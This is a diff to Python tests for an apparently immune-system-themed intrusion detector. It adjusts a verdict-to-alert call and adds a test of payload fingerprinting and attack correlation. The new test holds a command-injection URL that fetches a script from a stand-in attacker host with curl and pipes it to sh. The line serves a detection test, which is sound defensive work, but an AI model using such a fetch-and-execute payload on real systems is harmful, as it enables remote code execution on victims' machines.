@@ -29,9 +29,9 @@ def test_expired_and_misaddressed_are_dropped() -> None:
 def test_verdicts_make_cytokines() -> None:
     verdict = {"final_verdict": "MALICIOUS", "severity": "CRITICAL", "entity": "e", "event_ids": ["ev"],
                "verdict_id": "v", "evidence": [{"stage": "macrophage", "score": 0.9, "investigate": True}]}
-    kinds = [c["type"] for c in for_verdict(verdict, "rule:1001", 1.0)]
+    kinds = [c["type"] for c in for_verdict(verdict, ["rule:1001"], 1.0)]
     assert kinds == ["TNF", "IL12"]
-    assert for_verdict({**verdict, "final_verdict": "BENIGN"}, None, 1.0) == []
+    assert for_verdict({**verdict, "final_verdict": "BENIGN"}, [], 1.0) == []
 
 
 def test_dendritic_expansion_then_coordinated_attack_once_each() -> None:
@@ -65,3 +65,23 @@ def test_a_storm_folds_low_priority_signals_per_signature_and_entity() -> None:
     low = {(c["payload"]["entity"], c["payload"]["signature"]): c["payload"]["aggregated"]
            for c in kept if c["priority"] < 7}
     assert low == {("a", "rule:942100"): 30, ("b", "rule:942100"): 10, ("a", "rule:1"): 1}
+
+
+def test_signatures_fingerprint_the_payload_and_its_iocs_not_the_target_host() -> None:
+    from agents.dendritic import Correlator, signatures_of
+    from tests.conftest import make_event
+
+    def item(entity: str, uri: str) -> dict[str, object]:
+        event = make_event(entity=entity, uri=uri, headers={"host": "shop.example"})
+        return {"event": event, "reflex": {"matches": []}}
+
+    first = signatures_of(item("10.0.0.1", "/a?cmd=curl%20http://evil.example/x.sh%20|%20sh&n=17"))
+    again = signatures_of(item("10.0.0.2", "/b?CMD=curl%20http://evil.example/x.sh%20|%20SH&n=4242"))
+    assert first[0].startswith("payload:") and first[0] == again[0]  # case and numbers do not change it
+    assert "ioc:domain:evil.example" in first and not any("shop.example" in s for s in first)
+    assert signatures_of(item("10.0.0.3", "/a?q=shoes")) == []  # too short to mean one attack
+
+    correlator = Correlator()
+    raised = [correlator.observe(first[0], f"10.0.0.{i}", f"e{i}", 100.0 + i) for i in range(10)]
+    assert [r["title"].split(": ")[1].split(" of ")[0] for r in raised if r] == ["clonal expansion",
+                                                                              "coordinated attack"]
